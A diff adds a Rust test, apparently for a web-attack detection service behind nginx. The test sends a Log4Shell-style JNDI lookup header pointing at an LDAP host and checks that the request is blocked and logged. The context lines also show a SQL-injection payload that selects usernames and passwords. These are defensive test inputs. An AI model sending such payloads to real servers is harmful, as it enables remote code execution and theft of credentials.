@@ -72,6 +72,21 @@ impl Drop for Nginx {
     }
 }
 
+#[test]
+#[ignore = "needs nginx"]
+fn a_hostile_header_that_no_access_log_shows_is_refused_and_told() {
+    let platform = Platform::start("");
+    let dir = tempfile::tempdir().unwrap();
+    let nginx = Nginx::start(dir.path(), platform.address);
+    let lookup = ["X-Test-Client: 198.51.100.40", "X-Api-Version: ${jndi:ldap://203.0.113.5:1389/a}"];
+    assert_eq!(http(nginx.address, "GET", "/", &lookup).0, 403);
+    let told = wait_for("the detection", || {
+        let rows = platform.export("detections", "src_ip:198.51.100.40");
+        rows.into_iter().find(|row| row["class"] == "lookup")
+    });
+    assert!(told["why"].as_str().unwrap().contains("x-api-version"), "{told}");
+}
+
 const HOSTILE: &str = "/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-";
 
 #[test]
